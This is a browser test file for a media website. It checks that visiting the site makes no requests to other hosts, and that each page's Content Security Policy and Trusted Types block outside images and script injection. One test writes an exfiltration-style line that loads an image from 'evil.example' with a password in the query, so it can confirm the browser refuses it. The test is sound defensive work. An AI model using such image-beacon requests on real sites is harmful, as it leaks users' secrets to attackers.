import { tries } from '../../long.ts';
import { expect, test } from './visitor.ts';

/** The policy for pictures: the browser loads them from this site only, whatever content names. */
const IMG_SRC = /img-src 'self' data: blob:(;|$)/;

test('a visit to every section, project and dialog loads nothing from other hosts', async ({
  page,
  visitor,
  externalRequests,
}) => {
  await page.goto(visitor.site);
  await page.getByRole('button', { name: 'English' }).click();
  await visitor.section('photos').click();
  const covers = page.locator('.covers').getByRole('button').or(page.locator('.covers').getByRole('link'));
  const all = await covers.count();
  expect(all).toBeGreaterThan(3);
  const projects = tries(all, 2);
  for (let n = 0; n < projects; n += 1) {
    await covers.nth(n).click();
    await page.getByRole('main').locator('.photo').filter({ visible: true }).last().scrollIntoViewIfNeeded();
    if (n < projects - 1) await visitor.back().click();
  }
  await page.getByRole('main').locator('.photo').filter({ visible: true }).first().click();
  await expect(page.getByRole('dialog').getByRole('img')).toBeVisible();
  await visitor.button(visitor.words.buy).click();
  await visitor.button(visitor.words.close).click();
  await visitor.openCart();
  await page.keyboard.press('Escape');
  for (const section of ['videos', 'music'] as const) {
    await visitor.section(section).click();
    await page
      .getByRole('main')
      .getByRole('listitem')
      .filter({ visible: true })
      .last()
      .scrollIntoViewIfNeeded();
  }
  await visitor.languageButton().click();
  for (const name of ['Vertrag widerrufen', 'Einwilligung für Player', 'Datenschutz'])
    await page.getByRole('contentinfo').getByRole('link', { name, exact: true }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Datenschutz');
  await page.waitForLoadState('networkidle');
  expect(externalRequests).toEqual([]);
});

test.describe('under the policy of each page', () => {
  test.use({
    // One pattern: a list of two would be taken for a value with its options.
    allowConsole: [
      /violates the following Content Security Policy directive: "img-src 'self'|This document requires 'Trusted/,
    ],
  });

  test('the browser refuses pictures of other hosts, and in the panel text that turns into script', async ({
    page,
    visitor,
  }) => {
    for (const path of ['/', '/success', '/legal/imprint/', '/admin/']) {
      const answer = await page.goto(visitor.site + path);
      expect(answer?.headers()['content-security-policy'], path).toMatch(IMG_SRC);
      const refused = page.waitForEvent('requestfailed', (request) =>
        request.url().startsWith('https://evil.example/'),
      );
      await page.evaluate(() => {
        new Image().src = `https://evil.example/?data=${encodeURIComponent('the password')}`;
      });
      expect((await refused).failure()?.errorText, path).toMatch(/csp/i);
    }
    const ways = await page.evaluate(() => {
      const place = document.createElement('div');
      const script = document.createElement('script');
      const attempts: (() => void)[] = [
        () => {
          place.innerHTML = '<img src="x">';
        },
        () => place.insertAdjacentHTML('beforeend', '<b>x</b>'),
        () => {
          script.text = 'window.attacked = true';
        },
        () => {
          script.src = '/attack.js';
        },
      ];
      return attempts.map((attempt) => {
        try {
          attempt();
          return 'let through';
        } catch (error) {
          return (error as Error).name;
        }
      });
    });
    expect(ways).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError']);
  });
});
